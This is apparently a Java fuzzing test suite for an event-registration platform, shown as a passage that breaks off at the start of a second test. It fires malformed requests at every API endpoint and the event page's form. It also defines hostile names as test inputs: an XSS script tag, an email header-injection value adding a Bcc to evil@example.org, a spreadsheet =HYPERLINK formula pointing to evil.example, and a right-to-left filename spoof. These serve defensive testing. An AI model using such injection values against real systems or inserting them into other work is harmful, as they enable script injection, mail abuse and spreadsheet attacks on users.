package org.convene.system;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.oneOf;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Collection;
import java.util.HashSet;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import org.convene.localstack.CapturedMail;
import org.convene.localstack.LocalStack;
import org.convene.platform.email.EmailAddress;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.restassured.http.ContentType;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;
import net.jqwik.engine.SourceOfRandomness;

/**
 * Bad input (issue 8) at every public and organiser endpoint of the three running services, as their OpenAPI
 * documents list them (so that a new endpoint is fuzzed without a change here), and at the event page's HTML
 * form: no answer is a server error, every refusal from an API is a problem, and nothing refused changes
 * anything. Then names made to attack whoever reads them come out harmless in the email, the page and the
 * organiser's spreadsheet.
 *
 * <p>jqwik's generators are used as a library, not as a test engine: each request is drawn with
 * {@link Arbitrary#sample()} after seeding the thread's source of randomness with the run's seed and the
 * request's number, so that any request of a failed run can be made again alone
 * ({@code -Dconvene.fuzz.seed=...}) whatever thread sent it. Seeding goes through the engine's
 * {@code SourceOfRandomness}, the only way jqwik offers to seed {@code sample()} outside a property.
 */
@ExtendWith(SystemUnderTestExtension.class)
class FuzzingTest {

    private static final int REQUESTS = Integer.getInteger("convene.fuzz.requests", 10_000);
    private static final long SEED = Long.getLong("convene.fuzz.seed", new Random().nextLong() >>> 1);
    /** Two cores run the three services, the stack and this test: more senders would only queue. */
    private static final int SENDERS = 4;
    private static final int GEN_SIZE = 1000;
    private static final Pattern TEMPLATE_PARAMETER = Pattern.compile("\\{([^}:]+)(?::[^}]*)?}");
    private static final Set<String> METHODS = Set.of("GET", "POST", "PUT", "PATCH", "DELETE");
    /** Operations that change nothing stored, whatever they answer. */
    private static final Set<String> READ_ONLY = Set.of("POST /api/session", "POST /api/supporters/export",
            "POST /organiser/sign-in", "POST /organiser/sign-out");
    /** Sent without the token only: with it, it would end the session every test here shares. */
    private static final Set<String> ENDS_THE_SESSION = Set.of("DELETE /api/session");
    /** Spreadsheets take a cell starting with one of these for a formula. */
    private static final String FORMULA_STARTS = "=+-@\t\r";
    /** The characters RFC 5322 allows in an atom of an address's local part. */
    private static final String ATEXT = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!#$%&'*+/=?^_`{|}~-";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private final SystemUnderTest system;
    /** Tells this run's addresses from every other test's in the shared mailbox. */
    private final String run = UUID.randomUUID().toString().substring(0, 8);
    private final String organiserToken;
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    FuzzingTest(SystemUnderTest system) {
        this.system = system;
        this.organiserToken = system.organiserToken();
    }

    // ---------------------------------------------------------------------------------------------------------
    // The fuzzing run

    /** One endpoint: a method and a path template of one service, with what its document says it takes. */
    private record Operation(String service, String base, String method, String path, List<String> query,
            JsonNode jsonBody, JsonNode formBody, Map<String, String> realIds) {

        String name() {
            return method + " " + path;
        }

        boolean mutating() {
            return !"GET".equals(method) && !READ_ONLY.contains(name());
        }
    }

    /** A request as sent; {@code address} is the well-formed address it carries, if any. */
    private record Sent(long seed, int index, Operation operation, String method, String uri, boolean token,
            Map<String, String> headers, String body, String address) {

        String describe() {
            return "request " + index + " (seed " + seed + ", " + (token ? "with" : "without")
                    + " the organiser's token) " + method + " " + uri + "\n  headers " + headers + "\n  body "
                    + abbreviate(body, 2000);
        }
    }

    private record Answer(Sent request, int status, String contentType, String body) {

        String describe() {
            return request.describe() + "\n  answered " + status + " " + contentType + "\n  " + abbreviate(body, 2000);
        }
    }

    @Test
    void everyEndpointRefusesBadInputWithoutAServerErrorOrAnyChange() throws Exception {
        // Throwaway events: a draft whose id the organiser's operations may change or delete, and a public
        // event whose id registration-service's operations get (the same rules for registrations apply).
        String draft = system.create("Fuzzing draft " + run, LocalDate.now().plusDays(60).atTime(18, 0));
        String target = system.createAndPublish("Fuzzing target " + run, LocalDate.now().plusDays(61).atTime(18, 0));
        String page = system.awaitEventPage(target);

        List<Operation> operations = new ArrayList<>();
        // A mailing's id is the server's and none is known here, so no fuzzed request tests or sends a real one.
        Map<String, String> eventsIds = Map.of("id", draft, "eventId", target);
        operations.addAll(fromOpenApi(SystemUnderTest.EVENTS_SERVICE, system.events(), eventsIds));
        operations.addAll(fromOpenApi(SystemUnderTest.REGISTRATION_SERVICE, system.registration(),
                Map.of("eventId", target, "address", target, "id", target)));
        // notification-service serves no OpenAPI document: its one page, to unsubscribe, is listed here.
        String notification = system.services().get("notification-service").url();
        ObjectNode tokenForm = NODES.objectNode();
        tokenForm.putObject("properties").putObject("token").put("type", "string");
        operations.add(new Operation("notification-service", notification, "GET", "/unsubscribe/{id}",
                List.of("token", "mailing"), null, null, Map.of()));
        operations.add(new Operation("notification-service", notification, "POST", "/unsubscribe/{id}",
                List.of("token", "mailing"), null, tokenForm, Map.of()));
        assertThat(operations).extracting(Operation::name).contains("POST /api/events", "PUT /api/events/{id}",
                "POST /api/events/{eventId}/registrations", "GET /api/registrants/{eventId}",
                "POST /api/supporters/erasure", "POST /events/{id}/registrations");

        HtmlForm form = readForm(page);
        Snapshot before = snapshot(draft, target);

        Map<String, AtomicInteger> statuses = new ConcurrentHashMap<>();
        Map<String, AtomicInteger> changesByOperation = new ConcurrentHashMap<>();
        Collection<Answer> serverErrors = new ConcurrentLinkedQueue<>();
        Collection<Answer> notProblems = new ConcurrentLinkedQueue<>();
        Collection<Answer> formAccepted = new ConcurrentLinkedQueue<>();
        Set<String> acceptedAddresses = ConcurrentHashMap.newKeySet();
        Set<String> sentAddresses = ConcurrentHashMap.newKeySet();
        AtomicInteger createdEvents = new AtomicInteger();
        AtomicInteger registered = new AtomicInteger();

        long started = System.nanoTime();
        ExecutorService senders = Executors.newFixedThreadPool(SENDERS);
        try {
            List<Future<?>> work = new ArrayList<>();
            int slots = operations.size() + 1;
            for (int i = 0; i < REQUESTS; i++) {
                int index = i;
                work.add(senders.submit(() -> {
                    // Every operation in turn, and the page's form as often as any of them.
                    int slot = index % slots;
                    Sent sent = slot == operations.size() ? form.draw(index) : draw(operations.get(slot), index);
                    if (sent.address() != null) {
                        sentAddresses.add(asMailed(sent.address()));
                    }
                    Answer answer = send(sent);
                    statuses.computeIfAbsent(String.valueOf(answer.status()), s -> new AtomicInteger())
                            .incrementAndGet();
                    if (answer.status() >= 500 || answer.status() < 100) {
                        serverErrors.add(answer);
                    }
                    if (answer.status() >= 400 && answer.status() < 500 && apiPath(sent.uri())
                            && !answer.contentType().startsWith("application/problem+json")) {
                        notProblems.add(answer);
                    }
                    if (slot == operations.size() && (answer.status() < 400)) {
                        // 303 is the form's way of saying "registered": nothing the fuzzer sends may get it.
                        formAccepted.add(answer);
                    }
                    if (answer.status() >= 200 && answer.status() < 300 && sent.operation().mutating()) {
                        changesByOperation.computeIfAbsent(sent.operation().name(), s -> new AtomicInteger())
                                .incrementAndGet();
                        if (sent.operation().name().equals("POST /api/events")) {
                            createdEvents.incrementAndGet();
                        }
                        if (sent.operation().name().equals("POST /api/events/{eventId}/registrations")
                                && answer.status() == 201) {
                            registered.incrementAndGet();
                            if (sent.address() != null) {
                                acceptedAddresses.add(asMailed(sent.address()));
                            }
                        }
                    }
                    return null;
                }));
            }
            for (Future<?> done : work) {
                done.get();
            }
        } finally {
            senders.shutdownNow();
        }
        Duration took = Duration.ofNanos(System.nanoTime() - started);
        System.out.printf("Fuzzing (seed %d): %d requests over %d operations and the form in %d s; statuses %s; "
                + "2xx to changing operations %s%n", SEED, REQUESTS, operations.size(), took.toSeconds(),
                new TreeMap<>(statuses), new TreeMap<>(changesByOperation));

        assertThat(serverErrors.size()).as("answers >= 500 or none (seed %d), %s; the first:\n%s", SEED,
                summary(serverErrors), describe(serverErrors)).isZero();
        assertThat(notProblems.size()).as("4xx answers from an API that are not problems (seed %d), %s; "
                + "the first:\n%s", SEED, summary(notProblems), describe(notProblems)).isZero();
        assertThat(formAccepted.size()).as("garbage the page's form took (seed %d), the first:\n%s", SEED,
                describe(formAccepted)).isZero();

        // A registration made last by the organiser: once its email is out, every email a fuzzed request could
        // have caused before it has had its chance to go too.
        String barrier = "fuzz-" + run + "-barrier@example.org";
        system.asOrganiser().body(Map.of("name", "Rosa Apaza", "email", barrier))
                .post(system.registration() + "/api/events/" + target + "/registrations").then().statusCode(201);
        acceptedAddresses.add(barrier);
        sentAddresses.add(barrier);
        await().atMost(Duration.ofSeconds(120)).until(() -> !system.mailbox().to(barrier).isEmpty());

        Snapshot after = snapshot(draft, target);
        assertThat(after.events()).as("the organiser's events but the throwaway draft and those the fuzzer "
                + "created (%d answered 2xx)", createdEvents.get()).containsAllEntriesOf(before.events());
        assertThat(after.events().size() - before.events().size()).as("events created")
                .isEqualTo(createdEvents.get());
        assertThat(after.registrations()).as("registrations stored (%d answered 201)", registered.get())
                .isEqualTo(before.registrations() + registered.get() + 1);
        assertThat(after.targetRegistrations()).as("registrations for the target event")
                .isEqualTo(before.targetRegistrations() + registered.get() + 1);
        // The drafts the fuzzer made, and the throwaway one, go: other classes read the organiser's list.
        for (String id : after.events().keySet()) {
            if (!before.events().containsKey(id)) {
                system.asOrganiser().delete(system.events() + "/api/events/" + id).then().statusCode(204);
            }
        }
        system.asOrganiser().delete(system.events() + "/api/events/" + draft).then().statusCode(oneOf(204, 404));

        List<String> mailed = system.mailbox().headers().stream().flatMap(m -> m.to().stream())
                .map(String::toLowerCase).filter(sentAddresses::contains).distinct().toList();
        assertThat(acceptedAddresses).as("every email to an address the fuzzer sent went to one registered")
                .containsAll(mailed);
        assertThat(mailed).as("every address registered got its email, however unusual (seed %d)", SEED)
                .containsAll(acceptedAddresses);
    }

    /** An address as the SMTP server sees it: the domain in ASCII, compared without regard to case. */
    private static String asMailed(String address) {
        return EmailAddress.deliverable(address).orElse(address).toLowerCase(Locale.ROOT);
    }

    /** How many of the answers came from each operation, with which statuses. */
    private static Map<String, Long> summary(Collection<Answer> answers) {
        return answers.stream().collect(Collectors.groupingBy(
                a -> a.request().operation().name() + " " + a.status(), TreeMap::new, Collectors.counting()));
    }

    /** The first few in full, each as it can be sent again. */
    private static String describe(Collection<Answer> answers) {
        return answers.stream().limit(5).map(Answer::describe).collect(Collectors.joining("\n\n"));
    }

    /** Every operation of a service's OpenAPI document. */
    private List<Operation> fromOpenApi(String service, String base, Map<String, String> realIds) throws Exception {
        JsonNode document = JSON.readTree(given().accept("application/json").get(base + "/q/openapi?format=json")
                .then().statusCode(200).extract().asString());
        List<Operation> operations = new ArrayList<>();
        for (Iterator<Map.Entry<String, JsonNode>> paths = document.get("paths").fields(); paths.hasNext();) {
            Map.Entry<String, JsonNode> path = paths.next();
            for (Iterator<Map.Entry<String, JsonNode>> ops = path.getValue().fields(); ops.hasNext();) {
                Map.Entry<String, JsonNode> op = ops.next();
                String method = op.getKey().toUpperCase();
                if (!METHODS.contains(method)) {
                    continue;
                }
                List<String> query = new ArrayList<>();
                for (JsonNode parameter : op.getValue().path("parameters")) {
                    if ("query".equals(parameter.path("in").asText())) {
                        query.add(parameter.path("name").asText());
                    }
                }
                JsonNode content = op.getValue().path("requestBody").path("content");
                JsonNode json = content.has("application/json")
                        ? resolve(document, content.get("application/json").path("schema")) : null;
                JsonNode form = content.has("application/x-www-form-urlencoded")
                        ? resolve(document, content.get("application/x-www-form-urlencoded").path("schema")) : null;
                operations.add(new Operation(service, base, method, path.getKey(), query, json, form, realIds));
            }
        }
        assertThat(operations).as("%s's operations", service).isNotEmpty();
        return operations;
    }

    /** The schema with every {@code $ref} replaced by what it names (the documents here have no cycles but people). */
    private static JsonNode resolve(JsonNode document, JsonNode schema) {
        return resolve(document, schema, 0);
    }

    private static JsonNode resolve(JsonNode document, JsonNode schema, int depth) {
        if (schema.has("$ref") && depth < 8) {
            String[] parts = schema.get("$ref").asText().substring(2).split("/");
            JsonNode target = document;
            for (String part : parts) {
                target = target.path(part);
            }
            return resolve(document, target, depth + 1);
        }
        if (!schema.isObject()) {
            return schema;
        }
        ObjectNode copy = ((ObjectNode) schema).deepCopy();
        if (copy.has("properties")) {
            ObjectNode properties = NODES.objectNode();
            copy.get("properties").fields()
                    .forEachRemaining(p -> properties.set(p.getKey(), resolve(document, p.getValue(), depth + 1)));
            copy.set("properties", properties);
        }
        if (copy.has("items")) {
            copy.set("items", resolve(document, copy.get("items"), depth + 1));
        }
        for (String combined : List.of("allOf", "oneOf", "anyOf")) {
            if (copy.has(combined) && copy.get(combined).size() > 0) {
                return resolve(document, copy.get(combined).get(0), depth + 1);
            }
        }
        return copy;
    }

    /** Request {@code index} for the operation, the same for the same seed whichever thread draws it. */
    private Sent draw(Operation operation, int index) {
        return sample(index, random -> new Draw(random, index).request(operation));
    }

    /**
     * jqwik's sampling keeps its memo in one store for all threads, which two threads sampling at once corrupt:
     * requests are drawn one at a time (it takes far less than sending them).
     */
    private static synchronized Sent sample(int index, java.util.function.Function<Random, Sent> request) {
        SourceOfRandomness.create(Long.toString(seedOf(index)));
        return Arbitraries.randomValue(request).sample();
    }

    private static long seedOf(int index) {
        return (SEED * 1_000_003L + index) & Long.MAX_VALUE;
    }

    /** What one request is made of, drawn from jqwik's arbitraries with one source of randomness. */
    private final class Draw {

        private final Random random;
        private final int index;

        Draw(Random random, int index) {
            this.random = random;
            this.index = index;
        }

        <T> T from(Arbitrary<T> arbitrary) {
            return arbitrary.generator(GEN_SIZE).next(random).value();
        }

        boolean chance(int percent) {
            return from(Arbitraries.integers().between(0, 99)) < percent;
        }

        /**
         * A well-formed address of this run, valid but unusual as real ones are: any of RFC 5322's atext
         * characters, a plus-tag, up to the longest local part, an internationalised domain, any case.
         */
        String address() {
            String tag = "fuzz-" + run + "-" + index;
            StringBuilder local = new StringBuilder(chance(50) ? tag : tag.toUpperCase(Locale.ROOT));
            int atoms = from(Arbitraries.integers().between(0, 3));
            for (int i = 0; i < atoms; i++) {
                int room = 64 - local.length() - 1;
                if (room < 1) {
                    break;
                }
                String atom = from(Arbitraries.strings().withChars(ATEXT).ofMinLength(1).ofMaxLength(Math.min(room, 40)));
                local.append(chance(50) ? '.' : '+').append(atom);
            }
            String domain = from(Arbitraries.of("example.org", "Example.ORG", "bücher.example", "correo.example.bo",
                    "xn--bcher-kva.example", "MAIL.EXAMPLE.COM"));
            return local + "@" + domain;
        }

        Sent request(Operation operation) {
            boolean token = !ENDS_THE_SESSION.contains(operation.name()) && chance(50);
            boolean bodiless = operation.jsonBody() == null && operation.formBody() == null;
            // With the token, a body-less change to a real event is a valid request, not bad input (it would
            // publish or delete the throwaway draft and stop the rest of the run from reaching it): those get
            // made-up ids only. Without the token every id is fair.
            boolean realIds = !(token && operation.mutating() && bodiless);
            StringBuilder path = new StringBuilder();
            Matcher parameter = TEMPLATE_PARAMETER.matcher(operation.path());
            int at = 0;
            while (parameter.find()) {
                path.append(operation.path(), at, parameter.start());
                String real = realIds ? realId(operation, parameter.group(1)) : null;
                path.append(real != null && chance(35) ? real : from(HostileInput.PATH_SEGMENT));
                at = parameter.end();
            }
            path.append(operation.path().substring(at));

            List<String> query = new ArrayList<>();
            for (String name : operation.query()) {
                if (chance(60)) {
                    query.add(encode(name) + "=" + encode(from(HostileInput.SHORT_TEXT)));
                }
            }
            if (chance(15)) {
                query.add(encode(from(HostileInput.SHORT_TEXT)) + "=" + encode(from(HostileInput.SHORT_TEXT)));
            }
            String uri = operation.base() + path + (query.isEmpty() ? "" : "?" + String.join("&", query));

            Map<String, String> headers = new LinkedHashMap<>();
            String body = null;
            String address = null;
            if (operation.jsonBody() != null || (bodiless && chance(20))) {
                headers.put("Content-Type", from(Arbitraries.frequencyOf(
                        Tuple.of(8, Arbitraries.just("application/json")),
                        Tuple.of(1, Arbitraries.of("text/plain", "application/xml",
                                "application/x-www-form-urlencoded", "application/json; charset=latin-1",
                                "multipart/form-data; boundary=x", "*/*", ";;")))));
                JsonBody json = operation.jsonBody() == null ? new JsonBody(from(HostileInput.JSON_TEXT), null)
                        : jsonBody(operation.jsonBody());
                body = json.text();
                address = json.address();
            } else if (operation.formBody() != null || bodiless) {
                headers.put("Content-Type", "application/x-www-form-urlencoded");
                body = formBody(operation.formBody());
            }
            if (chance(5)) {
                headers.put("Accept", from(Arbitraries.of("application/xml", "text/html", "*/*", "garbage", "")));
            }
            if (operation.path().equals("/api/events/{eventId}/registrations") && chance(30)) {
                // The API's proof of work, as a program would forge it.
                headers.put("Altcha", from(HostileInput.HEADER_TEXT));
            }
            return new Sent(seedOf(index), index, operation, operation.method(), uri, token, headers, body, address);
        }

        private String realId(Operation operation, String parameter) {
            // Only the public pages of registration-service take an event's id as {id}; elsewhere {id} is a
            // registration's, which no fuzzed request knows.
            if ("registration-service".equals(operation.service()) && "id".equals(parameter)
                    && !operation.path().startsWith("/events/")) {
                return null;
            }
            return operation.realIds().get(parameter);
        }

        private record JsonBody(String text, String address) {
        }

        /** Mostly a well-formed body of the schema with one to three things wrong with it; else no JSON at all. */
        private JsonBody jsonBody(JsonNode schema) {
            int kind = from(Arbitraries.integers().between(0, 99));
            if (kind < 10) {
                return new JsonBody(from(HostileInput.JSON_TEXT), null);
            }
            String[] address = new String[1];
            JsonNode body = plausible(schema, "", address, 0);
            if (kind < 15) {
                // Cut short anywhere: invalid JSON that starts like the right JSON.
                String text = body.toString();
                return new JsonBody(text.substring(0, from(Arbitraries.integers().between(0, text.length()))),
                        address[0]);
            }
            int mistakes = from(Arbitraries.integers().between(kind < 25 ? 0 : 1, 3));
            for (int i = 0; i < mistakes; i++) {
                body = mistake(body, schema);
            }
            String text = body.toString();
            if (address[0] != null && !text.contains(address[0])) {
                address[0] = null;
            }
            return new JsonBody(text, address[0]);
        }

        /** A value the schema allows, or near enough: what a correct client would send. */
        private JsonNode plausible(JsonNode schema, String name, String[] address, int depth) {
            String type = schema.path("type").asText(schema.has("properties") ? "object" : "string");
            if (schema.has("enum") && schema.get("enum").size() > 0) {
                return schema.get("enum").get(from(Arbitraries.integers().between(0, schema.get("enum").size() - 1)));
            }
            switch (type) {
                case "object": {
                    ObjectNode object = NODES.objectNode();
                    Set<String> required = new HashSet<>();
                    schema.path("required").forEach(r -> required.add(r.asText()));
                    schema.path("properties").fields().forEachRemaining(p -> {
                        if (depth < 4 && (required.contains(p.getKey()) || chance(40))) {
                            object.set(p.getKey(), plausible(p.getValue(), p.getKey(), address, depth + 1));
                        }
                    });
                    return object;
                }
                case "array": {
                    ArrayNode array = NODES.arrayNode();
                    int size = depth < 4 ? from(Arbitraries.integers().between(0, 2)) : 0;
                    for (int i = 0; i < size; i++) {
                        array.add(plausible(schema.path("items"), name, address, depth + 1));
                    }
                    return array;
                }
                case "integer":
                case "number":
                    return NODES.numberNode(name.toLowerCase().contains("minutes") ? 60 : 10);
                case "boolean":
                    return NODES.booleanNode(chance(50));
                default:
                    return NODES.textNode(plausibleText(schema, name, address));
            }
        }

        private String plausibleText(JsonNode schema, String name, String[] address) {
            String lower = name.toLowerCase();
            String format = schema.path("format").asText("");
            if (lower.contains("email")) {
                address[0] = address();
                return address[0];
            }
            if (lower.endsWith("url")) {
                return "https://example.org/fuzz/" + index;
            }
            if (lower.contains("timezone")) {
                return from(Arbitraries.of("Europe/London", "America/La_Paz"));
            }
            if (lower.equals("language")) {
                return "en";
            }
            if (lower.equals("country")) {
                return "BO";
            }
            if (format.equals("uuid")) {
                return new UUID(random.nextLong(), random.nextLong()).toString();
            }
            if (format.startsWith("date-time") || lower.startsWith("startsat") || lower.endsWith("at")) {
                return LocalDate.now().plusDays(70).atTime(19, 0).toString();
            }
            if (format.equals("date")) {
                return LocalDate.now().plusDays(70).toString();
            }
            return "Fuzz " + name + " " + index;
        }

        /** One thing wrong: a field of the wrong type or hostile, one missing, one too many, or no object at all. */
        private JsonNode mistake(JsonNode body, JsonNode schema) {
            if (!body.isObject() || body.isEmpty() || chance(8)) {
                return from(HostileInput.JSON_VALUE);
            }
            ObjectNode object = (ObjectNode) body;
            List<String> fields = new ArrayList<>();
            object.fieldNames().forEachRemaining(fields::add);
            String field = fields.get(from(Arbitraries.integers().between(0, fields.size() - 1)));
            int what = from(Arbitraries.integers().between(0, 99));
            if (what < 45) {
                object.set(field, from(HostileInput.JSON_VALUE));
            } else if (what < 65) {
                object.remove(field);
            } else if (what < 80) {
                object.set(from(HostileInput.TEXT), from(HostileInput.JSON_VALUE));
            } else if (what < 90) {
                object.putNull(field);
            } else if (object.get(field).isObject()) {
                object.set(field, mistake(object.get(field), schema.path("properties").path(field)));
            } else {
                object.set(field, NODES.textNode(from(HostileInput.TEXT)));
            }
            return object;
        }

        private String formBody(JsonNode schema) {
            if (chance(10)) {
                return from(HostileInput.RAW_FORM);
            }
            List<String> fields = new ArrayList<>();
            if (schema != null) {
                schema.path("properties").fieldNames().forEachRemaining(name -> {
                    if (chance(80)) {
                        fields.add(encode(name) + "=" + encode(from(HostileInput.TEXT)));
                    }
                });
            }
            if (chance(30)) {
                // The back office's forms carry a CSRF token; a made-up one must count as none.
                fields.add("csrf-token=" + encode(from(HostileInput.TEXT)));
            }
            if (chance(20)) {
                fields.add(encode(from(HostileInput.TEXT)) + "=" + encode(from(HostileInput.TEXT)));
            }
            return String.join("&", fields);
        }
    }

    /** The event page's form, its fields and its token, as a browser without JavaScript reads them. */
    private HtmlForm readForm(String page) {
        Document document = Jsoup.parse(given().get(page).then().statusCode(200).extract().asString(), page);
        Element form = document.selectFirst("form[action^=/events/]");
        assertThat(form).as("the event page's form").isNotNull();
        List<String> fields = form.select("input[name], select[name], textarea[name]").stream()
                .map(e -> e.attr("name")).distinct().toList();
        assertThat(fields).contains("name", "email", "formToken", "website");
        return new HtmlForm(form.absUrl("action"), fields, form.selectFirst("input[name=formToken]").val());
    }

    /** The event page's form as a browser without JavaScript would send it, with garbage in it. */
    private final class HtmlForm {

        private final String action;
        private final List<String> fields;
        private final String formToken;

        private HtmlForm(String action, List<String> fields, String formToken) {
            this.action = action;
            this.fields = fields;
            this.formToken = formToken;
        }


        Sent draw(int index) {
            return sample(index, random -> request(new Draw(random, index)));
        }

        private Sent request(Draw draw) {
            String token = switch (draw.from(Arbitraries.integers().between(0, 4))) {
                case 0, 1 -> formToken;
                case 2 -> null;
                case 3 -> formToken.substring(0, formToken.length() - 1)
                        + (formToken.endsWith("A") ? "B" : "A");
                default -> draw.from(HostileInput.TEXT);
            };
            boolean validToken = formToken.equals(token);
            String address = null;
            List<String> pairs = new ArrayList<>();
            for (String field : fields) {
                if (field.equals("formToken")) {
                    if (token != null) {
                        pairs.add("formToken=" + encode(token));
                    }
                    continue;
                }
                if (draw.chance(15)) {
                    continue;
                }
                String value;
                if (field.equals("email")) {
                    // With the page's own token a well-formed address would register (it is not bad input):
                    // then the address is never one.
                    if (!validToken && draw.chance(50)) {
                        address = draw.address();
                        value = address;
                    } else {
                        value = draw.from(HostileInput.TEXT.filter(text -> !text.contains("@")));
                    }
                } else if (field.equals("website")) {
                    value = draw.chance(80) ? "" : draw.from(HostileInput.TEXT);
                } else {
                    value = draw.chance(20) ? draw.from(HostileInput.PLAUSIBLE_NAME) : draw.from(HostileInput.TEXT);
                }
                pairs.add(encode(field) + "=" + encode(value));
                if (draw.chance(5)) {
                    pairs.add(encode(field) + "=" + encode(draw.from(HostileInput.TEXT)));
                }
            }
            if (draw.chance(10)) {
                pairs.add(encode(draw.from(HostileInput.TEXT)) + "=" + encode(draw.from(HostileInput.TEXT)));
            }
            String body = draw.chance(5) ? draw.from(HostileInput.RAW_FORM) : String.join("&", pairs);
            Map<String, String> headers = new LinkedHashMap<>();
            headers.put("Content-Type", "application/x-www-form-urlencoded");
            if (draw.chance(10)) {
                headers.put("Origin", draw.from(Arbitraries.of("https://evil.example", "null", "::::", "")));
            }
            if (draw.chance(10)) {
                headers.put("Sec-Fetch-Site", draw.from(Arbitraries.of("cross-site", "same-site", "", "garbage")));
            }
            String uri = action + (draw.chance(10) ? "?embed=" + encode(draw.from(HostileInput.SHORT_TEXT)) : "");
            Operation operation = new Operation("registration-service", system.registration(), "POST",
                    "the event page's form", List.of(), null, null, Map.of());
            return new Sent(seedOf(draw.index), draw.index, operation, "POST", uri, draw.chance(50), headers, body,
                    address);
        }
    }

    /**
     * A body over a service's limit is refused with 413 and the connection closed before the body is read; when
     * the client is still writing it, the reset can swallow the answer (TCP's race, not the service's). A
     * request with no answer is sent again, twice at most, before it counts as unanswered.
     */
    private Answer send(Sent sent) {
        Answer answer = sendOnce(sent);
        for (int again = 0; again < 2 && answer.status() == 0; again++) {
            answer = sendOnce(sent);
        }
        return answer;
    }

    private Answer sendOnce(Sent sent) {
        try {
            HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(sent.uri()))
                    .timeout(Duration.ofSeconds(60))
                    .method(sent.method(), sent.body() == null ? HttpRequest.BodyPublishers.noBody()
                            : HttpRequest.BodyPublishers.ofString(sent.body(), StandardCharsets.UTF_8));
            sent.headers().forEach(request::header);
            if (sent.token()) {
                request.header("Authorization", "Bearer " + organiserToken);
            }
            HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
            return new Answer(sent, response.statusCode(),
                    response.headers().firstValue("Content-Type").orElse(""), response.body());
        } catch (Exception e) {
            // No answer at all (a reset, a hang) is as bad as a 500.
            return new Answer(sent, 0, "", e.toString());
        }
    }

    /** Whether the server routes the path to an API, as it resolves dot segments. */
    private static boolean apiPath(String uri) {
        String path = URI.create(uri).normalize().getRawPath();
        return path != null && path.startsWith("/api/");
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String text, int length) {
        if (text == null) {
            return "(none)";
        }
        return text.length() <= length ? text : text.substring(0, length) + "... (" + text.length() + " characters)";
    }

    /** What must not change through a refused request, taken before and after the run. */
    private record Snapshot(Map<String, String> events, long registrations, long targetRegistrations) {
    }

    private Snapshot snapshot(String draft, String target) throws Exception {
        Map<String, String> events = new TreeMap<>();
        for (JsonNode event : JSON.readTree(system.asOrganiser().get(system.events() + "/api/events").then()
                .statusCode(200).extract().asString())) {
            String id = event.get("id").asText();
            if (!id.equals(draft)) {
                // What an organiser's change would change; the counts move on their own as emails go out.
                events.put(id, event.path("version").asText() + " " + event.path("status").asText() + " "
                        + event.path("title").asText() + " " + event.path("startsAt").asText());
            }
        }
        try (Connection db = DriverManager.getConnection(system.stack().jdbcUrl("registrations"), "registrations",
                LocalStack.DATABASE_PASSWORD)) {
            return new Snapshot(events, count(db, "select count(*) from registration", null),
                    count(db, "select count(*) from registration where event_id = ?::uuid", target));
        }
    }

    private static long count(Connection db, String sql, String parameter) throws Exception {
        try (PreparedStatement query = db.prepareStatement(sql)) {
            if (parameter != null) {
                query.setString(1, parameter);
            }
            try (ResultSet rows = query.executeQuery()) {
                rows.next();
                return rows.getLong(1);
            }
        }
    }

    // ---------------------------------------------------------------------------------------------------------
    // Hostile names

    /** As browsers send the page's form: in UTF-8 (REST Assured's default for forms is ISO-8859-1). */
    private static final String FORM = "application/x-www-form-urlencoded; charset=UTF-8";
    private static final String SCRIPT = "<script>alert(1)</script>";
    private static final String HEADER_INJECTION = "Ana\r\nBcc: evil@example.org";
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example\")";
    private static final String RIGHT_TO_LEFT = "Ana \u202Egnp.exe";
    /** Emoji, a flag, combining marks and a family joined by zero-width joiners: 300 UTF-16 units, over the limit. */
    private static final String LONG_UNICODE = unicodeName(300);
    private static final String UNICODE = unicodeName(150);

    /** At least {@code units} UTF-16 units, never a surrogate pair cut in two. */
    private static String unicodeName(int units) {
        String pattern = "Zoë 👩‍👩‍👧 🇧🇴 e\u0301\u0302 Ñandú ";
        StringBuilder name = new StringBuilder();
        for (int i = 0; name.length() < units; i = (i + Character.charCount(pattern.codePointAt(i)))
                % pattern.length()) {
            name.appendCodePoint(pattern.codePointAt(i));
        }
        return name.toString().strip();
    }

    /**
     * Addresses as real people have them, valid but unusual, drawn by the fuzzer's own generator: each one is
     * taken, and each one's confirmation reaches the SMTP server, once, at the address as the server knows it.
     */
    @Test
    void everyUnusualButValidAddressIsTakenAndGetsItsEmail() {
        String eventId = system.createAndPublish("Unusual addresses " + run, LocalDate.now().plusDays(63).atTime(18, 0));
